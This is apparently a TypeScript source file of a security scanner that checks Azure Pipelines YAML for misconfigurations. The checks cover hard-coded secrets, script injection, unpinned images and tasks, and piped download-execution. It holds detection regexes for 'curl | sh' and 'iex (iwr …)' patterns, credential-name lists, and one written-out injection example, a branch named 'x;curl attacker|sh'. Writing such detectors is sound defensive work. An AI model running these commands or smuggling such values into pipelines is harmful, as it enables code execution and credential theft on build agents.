import type { CheckMeta } from '../check.js';
import { isRecord, type Json, type Path } from '../kubernetes/parse.js';
import { parseImageRef } from '../kubernetes/checks.js';
import type { MisconfigOptions } from '../options.js';
import {
  hasReference,
  isPlaceholder,
  nameWords,
  scriptsOf,
  type PipelineModel,
  type ScriptText,
  type Step,
} from './model.js';

export interface AdoHit {
  /** Node the finding points at. */
  path: Path;
  /** Text to look for inside that node to report its exact line (multi-line scripts). */
  needle?: string;
  message: string;
  subject: string;
}

export interface AdoCheck extends CheckMeta {
  run(m: PipelineModel, opts: MisconfigOptions): AdoHit[];
}

const DOCS = 'https://learn.microsoft.com/azure/devops/pipelines';
const CHECKOV = 'https://www.checkov.io/5.Policy%20Index/azure_pipelines.html';
const POUTINE = 'https://github.com/boostsecurityio/poutine/blob/main/opa/rego/rules';

const str = (v: Json | undefined): string | undefined =>
  typeof v === 'string' ? v : typeof v === 'number' ? String(v) : undefined;

// ---------------------------------------------------------------------------------------------
// Credential-looking names

const SECRET_WORDS = new Set([
  'password',
  'passwd',
  'pwd',
  'passphrase',
  'secret',
  'token',
  'apikey',
  'accesskey',
  'privatekey',
  'connectionstring',
  'sas',
  'pat',
]);
/** `<word> key` pairs that name a secret key (`storageKey`, `AWS_SECRET_ACCESS_KEY`, `sshKey`…). */
const KEY_PREFIX = new Set([
  'api',
  'access',
  'private',
  'account',
  'storage',
  'secret',
  'signing',
  'encryption',
  'master',
  'primary',
  'secondary',
  'shared',
  'subscription',
  'client',
  'sas',
  'ssh',
  'function',
  'host',
]);
/** A last word that makes the name describe the secret, not hold it (`secretName`, `tokenUrl`, `passwordFile`). */
const NOT_A_VALUE = new Set([
  'name',
  'names',
  'id',
  'ids',
  'url',
  'uri',
  'file',
  'files',
  'path',
  'dir',
  'directory',
  'type',
  'length',
  'version',
  'count',
  'endpoint',
  'connection',
  'scope',
  'variable',
  'var',
  'vars',
  'prefix',
  'suffix',
  'format',
  'header',
  'enabled',
  'secure',
  'kind',
  'mode',
  'ttl',
  'expiry',
  'expiration',
  'duration',
  'arn',
  'ref',
  'filter',
  'location',
  'policy',
  'issuer',
  'audience',
  'provider',
  'field',
  'vault',
  'store',
  'label',
  'source',
  'required',
  'rotation',
  'lifetime',
  'timeout',
  'threshold',
  'rate',
  'size',
  'limit',
  'index',
  'pattern',
  'regex',
  'template',
  'method',
  'algorithm',
  'arguments',
  'args',
]);

/** Does this variable/env/input name hold a credential (as opposed to naming or locating one)? */
export function isSecretName(name: string): boolean {
  const w = nameWords(name);
  const last = w[w.length - 1];
  if (!last || NOT_A_VALUE.has(last)) return false;
  if (['is', 'use', 'enable', 'disable', 'skip', 'has'].includes(w[0]!)) return false;
  // `imagePullSecret(s)` names a Kubernetes Secret object.
  if (w.includes('pull') && (last === 'secret' || last === 'secrets')) return false;
  if (last === 'pass') return true; // DB_PASS, but not passRate
  for (let i = 0; i < w.length; i++) {
    const x = w[i]!;
    if (SECRET_WORDS.has(x)) return true;
    if (x === 'connection' && w[i + 1] === 'string') return true;
    if (x === 'private' && w[i + 1] === 'key') return true;
    if (x === 'key' && i > 0 && KEY_PREFIX.has(w[i - 1]!)) return true;
    if (x === 'key' && w.length === 1) return true;
  }
  return false;
}

/** A literal credential-looking value: a non-trivial string with no run-time reference. */
function isLiteralSecretValue(v: Json | undefined): v is string {
  if (typeof v !== 'string') return false;
  const t = v.trim();
  if (t.length < 4 || (/\s/.test(t) && !/[=;]/.test(t))) return false;
  if (/^(?:true|false|yes|no|on|off|none|null|\d+)$/i.test(t)) return false;
  return !hasReference(t) && !isPlaceholder(t);
}

// ---------------------------------------------------------------------------------------------
// Untrusted predefined variables

/** Predefined variables whose value an outsider controls (branch names, commit messages, display names). */
const UNTRUSTED_VARIABLES = [
  'Build.SourceBranch',
  'Build.SourceBranchName',
  'Build.SourceVersionMessage',
  'Build.RequestedFor',
  'Build.RequestedForEmail',
  'Build.QueuedBy',
  'System.PullRequest.SourceBranch',
  'System.PullRequest.SourceBranchName',
];
const UNTRUSTED = new Set(UNTRUSTED_VARIABLES.map((v) => v.toLowerCase()));
const isUntrusted = (name: string) =>
  UNTRUSTED.has(name.toLowerCase()) || /^resources\.pipeline\.[\w-]+\.sourcebranch$/i.test(name);

/** Untrusted variables expanded into `text` by macro (`$(X)`) or template expression (`${{ variables['X'] }}`). */
export function untrustedExpansions(text: string): { variable: string; needle: string }[] {
  const out = new Map<string, { variable: string; needle: string }>();
  const add = (variable: string, needle: string) => {
    if (isUntrusted(variable) && !out.has(variable.toLowerCase()))
      out.set(variable.toLowerCase(), { variable, needle });
  };
  for (const m of text.matchAll(/\$\(\s*([A-Za-z0-9_.-]+)\s*\)/g)) add(m[1]!, m[0]);
  for (const m of text.matchAll(/\$\{\{[^}]*?\}\}/g))
    for (const r of m[0].matchAll(/variables(?:\[\s*'([^']+)'\s*\]|\.([A-Za-z0-9_.]+))/g))
      add((r[1] ?? r[2])!, m[0]);
  return [...out.values()];
}

// ---------------------------------------------------------------------------------------------
// Script patterns

/** Joins shell (`\`) and PowerShell (`` ` ``) line continuations so one command is one line. */
function commandLines(text: string): string[] {
  // Lines are capped: the patterns below have `.*` and stay cheap on hostile input.
  return text
    .replace(/[\\`][ \t]*\r?\n/g, ' ')
    .split(/\r?\n/)
    .map((l) => l.slice(0, 4096));
}

const LONG_LIVED_IN_SCRIPT: { re: RegExp; unless?: RegExp; what: string }[] = [
  {
    re: /\baz\s+login\b.*(?:\s-p\s|\s-p$|--password\b|--client-secret\b)/,
    unless: /--federated-token\b/,
    what: '`az login` with a password or client secret',
  },
  {
    re: /\bConnect-AzAccount\b.*-ServicePrincipal\b.*-Credential\b|\bConnect-AzAccount\b.*-Credential\b.*-ServicePrincipal\b/i,
    unless: /-FederatedToken\b/i,
    what: '`Connect-AzAccount -ServicePrincipal -Credential`',
  },
  {
    re: /\baws\s+configure\s+set\s+(?:\S+\.)?aws_secret_access_key\b/,
    what: '`aws configure set aws_secret_access_key`',
  },
  {
    re: /(?:^|[\s;&])(?:export\s+|\$env:)?(?:AWS_SECRET_ACCESS_KEY|ARM_CLIENT_SECRET|AZURE_CLIENT_SECRET)\s*=/,
    what: 'a static cloud secret exported to the environment',
  },
  {
    re: /\bgcloud\s+auth\s+activate-service-account\b.*--key-file\b/,
    what: '`gcloud auth activate-service-account --key-file`',
  },
];
/** Environment variables that carry a long-lived cloud secret. */
const LONG_LIVED_ENV =
  /^(?:AWS_SECRET_ACCESS_KEY|ARM_CLIENT_SECRET|AZURE_CLIENT_SECRET|GOOGLE_CREDENTIALS)$/i;

const DOWNLOAD_EXEC = [
  /\b(?:curl|wget)\b[^|\n]{0,256}\|\s*(?:sudo\s+)?(?:-\S+\s+)*(?:(?:ba|z|da)?sh|python\d?(?:\.\d+)?|node|perl|ruby|php|pwsh|powershell)\b/i,
  /\b(?:bash|sh|source)\s+<\(\s*(?:curl|wget)\b/i,
  /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]{0,256}\|\s*(?:iex|Invoke-Expression)\b/i,
  /\b(?:iex|Invoke-Expression)\b[^\n]{0,256}\.DownloadString\(/i,
  /\b(?:iex|Invoke-Expression)\s*\(\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/i,
];
/** Downloads pinned to a full commit SHA are verifiable. */
const PINNED_URL =
  /https:\/\/(?:raw\.githubusercontent\.com\/[^/\s]+\/[^/\s]+\/[0-9a-f]{40}\/|github\.com\/[^/\s]+\/[^/\s]+\/raw\/[0-9a-f]{40}\/)/i;

const firstWords = (s: string, n: number) => s.trim().split(/\s+/).slice(0, n).join(' ');

function scripts(m: PipelineModel): ScriptText[] {
  return m.steps.flatMap(scriptsOf);
}

const stepSubject = (s: Step) => `${s.owner}/${s.label}`;

function isTrue(v: Json | undefined): boolean {
  return v === true || (typeof v === 'string' && /^true$/i.test(v.trim()));
}

/** Images of job containers (`container:` string or `{ image }`) and of `resources.containers`. */
function containerImages(m: PipelineModel): { image: string; path: Path; subject: string }[] {
  const aliases = new Set(m.containerResources.map((c) => c.alias));
  const out: { image: string; path: Path; subject: string }[] = [];
  for (const c of m.containerResources) {
    const image = str(c.image);
    if (image) out.push({ image, path: c.path, subject: `resources.containers/${c.alias}` });
  }
  const owners = [{ node: m.root, path: [] as Path, name: '(root)' }, ...m.jobs];
  for (const o of owners) {
    const c = o.node.container;
    if (typeof c === 'string') {
      if (!aliases.has(c))
        out.push({ image: c, path: [...o.path, 'container'], subject: `${o.name}/container` });
    } else if (isRecord(c) && typeof c.image === 'string') {
      out.push({ image: c.image, path: [...o.path, 'container', 'image'], subject: `${o.name}/container` });
    }
  }
  return out.filter((x) => !hasReference(x.image) && !isPlaceholder(x.image) && x.image.trim() !== '');
}

export const azurePipelinesChecks: AdoCheck[] = [
  {
    id: 'ado-secret-in-variables',
    title: 'Credential hard-coded in the pipeline',
    severity: 'high',
    description:
      'A variable, step `env` entry or task input whose name says it holds a password, secret, token or key has a literal value in the YAML, ' +
      'or a script marks a literal as a secret with `##vso[task.setvariable …;issecret=true]`. ' +
      'Everyone who can read the repository reads it, and it stays in the Git history. Azure Pipelines cannot even define secret variables in YAML.',
    remediation:
      'Remove the value and rotate the credential. Keep it in a secret pipeline variable, a variable group linked to Azure Key Vault, ' +
      'or fetch it with the AzureKeyVault task; reference it as `$(name)`.',
    references: [`${DOCS}/process/set-secret-variables`, `${DOCS}/release/azure-key-vault`, `${CHECKOV}`],
    // CKV_AZUREPIPELINES_3 reports every `issecret=true`; Rampart only literal values (see README).
    equivalents: { checkov: ['CKV_AZUREPIPELINES_3'] },
    cwe: ['CWE-798'],
    run: (m) => {
      const out: AdoHit[] = [];
      for (const v of m.variables)
        if (isSecretName(v.name) && isLiteralSecretValue(v.value))
          out.push({
            path: v.path,
            message: `variable ${v.name} has a literal credential-looking value`,
            subject: `${v.owner}/variables/${v.name}`,
          });
      for (const s of m.steps) {
        for (const field of ['env', 'inputs'] as const) {
          const block = s.node[field];
          if (!isRecord(block)) continue;
          for (const [k, val] of Object.entries(block))
            if (isSecretName(k) && isLiteralSecretValue(val) && !/^(?:script|inlineScript|inline)$/i.test(k))
              out.push({
                path: [...s.path, field, k],
                message: `${field === 'env' ? 'environment variable' : 'task input'} ${k} of step ${s.label} has a literal credential-looking value`,
                subject: `${stepSubject(s)}/${field}/${k}`,
              });
        }
      }
      for (const sc of scripts(m)) {
        for (const line of sc.text.split('\n')) {
          const sv = /##vso\[task\.setvariable\s+([^\]]*)\]([^\r\n]*)/i.exec(line);
          if (!sv || !/(?:^|;)\s*issecret\s*=\s*true\b/i.test(sv[1]!)) continue;
          const value = sv[2]!.replace(/["'`)]+\s*;?\s*$/, '').trim();
          if (!value || /[$%{}()+]/.test(value) || isPlaceholder(value)) continue;
          const name = /variable\s*=\s*([^;\s]+)/i.exec(sv[1]!)?.[1] ?? '?';
          out.push({
            path: sc.path,
            needle: sv[0],
            message: `step ${sc.step.label} sets secret variable ${name} from a literal in the script`,
            subject: `${stepSubject(sc.step)}/setvariable/${name}`,
          });
        }
      }
      return out;
    },
  },
  {
    id: 'ado-script-injection',
    title: 'Untrusted predefined variable expanded into a script',
    severity: 'high',
    description:
      'Macro syntax `$(Build.SourceBranchName)` (and template expressions) is replaced in the script text before the shell runs it. ' +
      'Branch names, commit messages and user display names are chosen by whoever pushes or opens the pull request: ' +
      'a branch named `x;curl attacker|sh` runs that command on the agent, with the job’s access token and service connections.',
    remediation:
      'Pass the value through an environment variable and quote it: `env: { BRANCH: $(Build.SourceBranchName) }`, then `"$BRANCH"` ' +
      '(Bash) or `$env:BRANCH` (PowerShell). Validate it against an allow-list pattern when it reaches a command line.',
    references: [`${DOCS}/security/inputs`, `${DOCS}/build/variables`, `${POUTINE}/injection.rego`],
    equivalents: { poutine: ['injection'] },
    cwe: ['CWE-78', 'CWE-94'],
    run: (m) =>
      scripts(m).flatMap((sc) =>
        untrustedExpansions(sc.text).map((x) => ({
          path: sc.path,
          needle: x.needle,
          message: `step ${sc.step.label} expands ${x.variable} directly into its script`,
          subject: `${stepSubject(sc.step)}/${x.variable.toLowerCase()}`,
        })),
      ),
  },
  {
    id: 'ado-container-not-pinned',
    title: 'Container image not pinned by digest',
    severity: 'medium',
    description:
      'A container job or container resource names its image by tag (or with `latest`, or no tag at all). ' +
      'Tags move: the job runs whatever the registry serves that day, with the job’s credentials and source code.',
    remediation:
      'Pin the image by digest: `image: registry/name:1.2.3@sha256:…` (keep the tag for readability).',
    references: [`${DOCS}/process/container-phases`, `${CHECKOV}`],
    equivalents: { checkov: ['CKV_AZUREPIPELINES_1', 'CKV_AZUREPIPELINES_2'] },
    cwe: ['CWE-1357'],
    run: (m) =>
      containerImages(m).flatMap((c) => {
        const ref = parseImageRef(c.image);
        if (ref.digest) return [];
        const why =
          ref.tag === undefined
            ? 'has no tag (latest)'
            : ref.tag === 'latest'
              ? 'uses the latest tag'
              : 'is pinned by tag, not digest';
        return [{ path: c.path, message: `container image ${c.image} ${why}`, subject: c.subject }];
      }),
  },
  {
    id: 'ado-task-unpinned-major',
    title: 'Task referenced without a version',
    severity: 'low',
    description:
      'Azure Pipelines requires the major version of a task in YAML (`task: Name@2`); a reference without `@version` does not name ' +
      'which task implementation runs and is rejected or resolved unpredictably when several versions are installed.',
    remediation:
      'Add the major version (`- task: PublishTestResults@2`), or a full version (`@2.1.0`) to pin it exactly.',
    references: [`${DOCS}/process/tasks#task-versions`],
    cwe: ['CWE-1357'],
    run: (m) =>
      m.steps.flatMap((s) => {
        const t = str(s.node.task);
        if (s.kind !== 'task' || t === undefined || t.includes('@') || hasReference(t) || isPlaceholder(t))
          return [];
        return [{ path: [...s.path, 'task'], message: `task ${t} has no @version`, subject: stepSubject(s) }];
      }),
  },
  {
    id: 'ado-checkout-persist-credentials',
    title: 'Checkout keeps the access token in the Git config',
    severity: 'low',
    description:
      '`persistCredentials: true` leaves the job’s OAuth token in `.git/config` for every later step, including third-party tasks ' +
      'and build scripts from the repository.',
    remediation:
      'Remove `persistCredentials: true`; where a step must push, give that step the token explicitly ' +
      '(`env: { SYSTEM_ACCESSTOKEN: $(System.AccessToken) }`) and use it only there.',
    references: [`${DOCS}/yaml-schema/steps-checkout`],
    cwe: ['CWE-522'],
    run: (m) =>
      m.steps
        .filter(
          (s) =>
            s.kind === 'checkout' && str(s.node.checkout) !== 'none' && isTrue(s.node.persistCredentials),
        )
        .map((s) => ({
          path: [...s.path, 'persistCredentials'],
          message: `checkout: ${str(s.node.checkout) ?? '?'} persists credentials`,
          subject: stepSubject(s),
        })),
  },
  {
    id: 'ado-long-lived-cloud-credentials',
    title: 'Cloud login with a long-lived static secret',
    severity: 'medium',
    description:
      'A script signs in to a cloud with a client secret, password or access key (`az login --service-principal -p`, ' +
      '`aws configure set aws_secret_access_key`, `ARM_CLIENT_SECRET`…). Such secrets live for months, are copied into variables ' +
      'and logs, and work from anywhere once leaked. The AzureCLI/AzurePowerShell tasks with a service connection avoid this.',
    remediation:
      'Use an Azure Resource Manager service connection with workload identity federation (no secret) and the AzureCLI@2 / ' +
      'AzurePowerShell@5 tasks; for AWS, an OIDC-federated role (AWS Toolkit service connection with OIDC).',
    references: [
      `${DOCS}/library/connect-to-azure#create-an-azure-resource-manager-service-connection-that-uses-workload-identity-federation`,
      `${DOCS}/release/configure-workload-identity`,
    ],
    cwe: ['CWE-798'],
    run: (m) => {
      const out: AdoHit[] = [];
      for (const sc of scripts(m)) {
        for (const line of commandLines(sc.text)) {
          const p = LONG_LIVED_IN_SCRIPT.find((x) => x.re.test(line) && !(x.unless?.test(line) ?? false));
          if (!p) continue;
          const at = p.re.exec(line)!;
          const needle = firstWords(line.slice(at.index).replace(/^[\s;&]+/, ''), 2);
          out.push({
            path: sc.path,
            needle,
            message: `step ${sc.step.label} signs in with ${p.what}`,
            subject: `${stepSubject(sc.step)}/login`,
          });
          break;
        }
      }
      for (const s of m.steps) {
        const env = s.node.env;
        if (!isRecord(env)) continue;
        for (const k of Object.keys(env))
          if (LONG_LIVED_ENV.test(k))
            out.push({
              path: [...s.path, 'env', k],
              message: `step ${s.label} receives ${k}, a long-lived cloud secret`,
              subject: `${stepSubject(s)}/env/${k}`,
            });
      }
      for (const v of m.variables)
        if (LONG_LIVED_ENV.test(v.name))
          out.push({
            path: v.path,
            message: `variable ${v.name} (exported to every script as an environment variable) holds a long-lived cloud secret`,
            subject: `${v.owner}/variables/${v.name}`,
          });
      return out;
    },
  },
  {
    id: 'ado-unverified-script-exec',
    title: 'Downloaded script executed without verification',
    severity: 'medium',
    description:
      '`curl … | sh` (or `iex (iwr …)`) runs whatever the server returns, with the job’s token and service connections, ' +
      'without any integrity check.',
    remediation:
      'Download to a file, verify its checksum or signature, then run it; pin the URL to an immutable version (a commit SHA); or use a package manager or a task.',
    references: [`${POUTINE}/unverified_script_exec.rego`],
    equivalents: { poutine: ['unverified_script_exec'] },
    cwe: ['CWE-494'],
    run: (m) =>
      scripts(m).flatMap((sc) => {
        for (const line of commandLines(sc.text)) {
          const hit = DOWNLOAD_EXEC.map((re) => re.exec(line)).find((x) => x !== null);
          if (!hit || PINNED_URL.test(hit[0])) continue;
          return [
            {
              path: sc.path,
              needle: firstWords(hit[0], 3),
              message: `step ${sc.step.label} pipes a download into an interpreter: ${hit[0].slice(0, 80)}`,
              subject: `${stepSubject(sc.step)}/download-exec`,
            },
          ];
        }
        return [];
      }),
  },
  {
    id: 'ado-debug-enabled',
    title: 'System diagnostics (System.Debug) enabled',
    severity: 'low',
    description:
      '`System.Debug: true` makes every task log verbosely: environment, inputs and command lines end up in build logs that many people can read. ' +
      'Secrets are masked, but values derived from them (encoded, split, transformed) are not.',
    remediation:
      'Remove `System.Debug` from the YAML; enable diagnostics for a single run from the “Run pipeline” dialog instead.',
    references: [`${DOCS}/build/variables#systemdebug`, `${POUTINE}/debug_enabled.rego`],
    equivalents: { poutine: ['debug_enabled'] },
    cwe: ['CWE-532'],
    run: (m) =>
      m.variables
        .filter((v) => v.name.toLowerCase() === 'system.debug' && isTrue(v.value))
        .map((v) => ({
          path: v.path,
          message: 'System.Debug is set to true',
          subject: `${v.owner}/variables/system.debug`,
        })),
  },
];
